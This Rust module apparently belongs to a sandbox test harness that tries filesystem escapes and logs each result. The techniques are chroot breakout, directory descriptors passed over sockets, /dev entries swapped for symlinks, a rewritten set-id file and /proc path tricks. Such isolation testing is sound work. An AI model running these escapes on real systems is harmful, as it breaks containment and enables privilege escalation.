//! Ways out of a root directory, and around what lies over a part of the view.

use std::fs;
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::Path;

use super::files::write_everywhere;
use super::out::{argument, attempt, note, reached, result};
use super::project::exchange;
use super::sys::{self, Arg, call};

/// By the ids of the catalogue.
pub const ATTACKS: super::Table = &[
    ("FS01", leave_root),
    ("FS02", leave_by_descriptor),
    ("FS12", replace_devices),
    ("FS14", become_set_id),
    ("FS15", move_parents),
    ("FS16", by_other_paths),
    ("FS18-names", by_name),
];

/// Further than any path is deep.
const STEPS: usize = 64;

fn change_root(path: &str) -> std::io::Result<()> {
    call(libc::SYS_chroot, &mut [Arg::Text(path)]).map(drop)
}

fn climb_and_read(path: &str) {
    for _ in 0..STEPS {
        let _ = std::env::set_current_dir("..");
    }
    result("upwards", fs::read(path.trim_start_matches('/')));
    attempt("root", change_root("."));
    result("from the top", fs::read(path));
}

/// The oldest way: a root below the directory of work leaves that outside.
fn leave_root(arguments: &[String]) {
    let _ = fs::create_dir("below-the-root");
    attempt("root", change_root("below-the-root"));
    climb_and_read(argument(arguments, 0));
}

/// The same by a directory that another process sends, which has kept its root.
fn leave_by_descriptor(arguments: &[String]) {
    let Ok((ours, theirs)) = std::os::unix::net::UnixStream::pair() else {
        return note("no pair of sockets");
    };
    let helper = sys::fork(|| {
        if let Ok(root) = fs::File::open("/") {
            let _ = send(&theirs, root.as_fd());
        }
    });
    let _ = fs::create_dir("below-the-root");
    attempt("root", change_root("below-the-root"));
    drop(theirs);
    let got = receive(&ours);
    if let Ok(helper) = helper {
        let _ = sys::wait(helper);
    }
    match got.as_ref().map(rustix::process::fchdir) {
        Some(Ok(())) => note("in the directory that was sent"),
        other => note(format!("the directory that was sent: {other:?}")),
    }
    climb_and_read(argument(arguments, 0));
}

fn send(socket: &std::os::unix::net::UnixStream, what: std::os::fd::BorrowedFd<'_>) -> std::io::Result<()> {
    use rustix::net::{SendAncillaryBuffer, SendAncillaryMessage, SendFlags, sendmsg};
    let descriptors = [what];
    let mut space = [std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut buffer = SendAncillaryBuffer::new(&mut space);
    buffer.push(SendAncillaryMessage::ScmRights(&descriptors));
    sendmsg(
        socket,
        &[std::io::IoSlice::new(b"x")],
        &mut buffer,
        SendFlags::empty(),
    )?;
    Ok(())
}

fn receive(socket: &std::os::unix::net::UnixStream) -> Option<OwnedFd> {
    use rustix::net::{RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, recvmsg};
    let mut space = [std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))];
    let mut buffer = RecvAncillaryBuffer::new(&mut space);
    let mut byte = [0];
    let mut parts = [std::io::IoSliceMut::new(&mut byte)];
    recvmsg(socket, &mut parts, &mut buffer, RecvFlags::empty()).ok()?;
    buffer.drain().find_map(|message| match message {
        RecvAncillaryMessage::ScmRights(mut all) => all.next(),
        _ => None,
    })
}

/// `FS12 PATH DIRECTORY`: what whoever starts a second command may open there becomes a link.
fn replace_devices(arguments: &[String]) {
    let (path, directory) = (argument(arguments, 0), Path::new(argument(arguments, 1)));
    for name in [
        "null", "zero", "full", "tty", "random", "urandom", "console", "ptmx", "stdin", "stdout", "stderr",
        "fd", "pts/0", "pts/ptmx",
    ] {
        let at = directory.join(name);
        let _ = fs::rename(&at, directory.join(format!("{name}.was")));
        let _ = fs::remove_file(&at);
        attempt(at.display(), symlink(path, &at));
    }
    attempt("pts", fs::rename(directory.join("pts"), directory.join("away")));
    attempt("pts", symlink(path, directory.join("pts")));
}

/// A set-id file of the host gets other content, and its bits again.
fn become_set_id(arguments: &[String]) {
    let token = argument(arguments, 0);
    let owner = fs::metadata("tool").map(|found| (found.uid(), found.gid()));
    if let Ok((user, group)) = owner {
        attempt("owner", std::os::unix::fs::chown("tool", Some(user), Some(group)));
    }
    attempt("content", fs::write("tool", token));
    attempt(
        "mode",
        fs::set_permissions("tool", fs::Permissions::from_mode(0o6755)),
    );
}

/// `FS15 DIRECTORY`: the parents of `DIRECTORY/kept`, which is read-only, move away or change places.
fn move_parents(arguments: &[String]) {
    let directory = argument(arguments, 0);
    let kept = format!("{directory}/kept");
    let other = format!("{directory}/other");
    attempt("other", fs::create_dir_all(&other));
    attempt("exchange", exchange(&kept, &other));
    attempt("rename", fs::rename(&kept, format!("{directory}/away")));
    attempt("over", fs::rename(&other, &kept));
    attempt("out", fs::rename(&kept, "away"));
    attempt("parent", fs::rename(directory, format!("{directory}-away")));
    attempt("parent", exchange(directory, "."));
    // Wherever it lies now.
    for place in [
        kept,
        format!("{directory}/away"),
        format!("{directory}/other"),
        format!("{directory}-away/kept"),
        "away".to_owned(),
    ] {
        write_everywhere(&[place]);
    }
    attempt("beside", fs::write(format!("{directory}/beside"), "x"));
}

/// `FS16 DIRECTORY`: the same directory, by every other path that leads there.
fn by_other_paths(arguments: &[String]) {
    let directory = argument(arguments, 0);
    let kept = format!("{directory}/kept");
    let link = format!("{directory}/link");
    attempt("link", symlink("kept", &link));
    let open = fs::File::open(directory);
    let number = open.as_ref().map_or(-1, AsRawFd::as_raw_fd);
    for place in [
        link,
        format!("/proc/self/root{kept}"),
        format!("/proc/self/fd/{number}/kept"),
        format!(
            "/proc/self/cwd/{}{}",
            "../".repeat(STEPS),
            kept.trim_start_matches('/')
        ),
        format!(
            "{directory}/../{}/kept",
            directory.rsplit('/').next().unwrap_or_default()
        ),
        kept,
    ] {
        write_everywhere(&[place]);
    }
    attempt("beside", fs::write(format!("{directory}/beside"), "x"));
}

/// Of files that are named, whether they are there, and of their directories what is in them: nothing is
/// opened.
fn by_name(arguments: &[String]) {
    for name in arguments {
        let path = Path::new(name);
        tell_of(path);
        let listed = path.parent().map_or(Ok(()), |directory| {
            for entry in fs::read_dir(directory)?.flatten() {
                tell_of(&entry.path());
            }
            Ok(())
        });
        attempt(name, listed);
    }
}

fn tell_of(path: &Path) {
    match path.symlink_metadata() {
        Ok(found) => reached(format!("{} bytes: {}", found.len(), path.display())),
        Err(error) => note(format!("{}: {error}", path.display())),
    }
}
